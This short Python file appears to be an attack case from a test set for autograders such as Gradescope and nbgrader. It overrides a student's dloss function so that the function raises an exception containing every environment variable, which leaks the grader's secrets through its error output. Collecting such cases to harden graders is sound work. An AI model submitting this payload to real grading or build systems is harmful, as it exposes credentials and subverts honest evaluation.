"""Raise an exception whose message is the whole of os.environ."""
MODULE = "ex1_manual_gradients"
CLASS = "env"
MODES = ("grade", "batch", "gradescope", "nbgrader")


def _atk_dloss(w, x, y, _orig=dloss):
    import os
    raise RuntimeError(repr(dict(os.environ)))


dloss = _atk_dloss
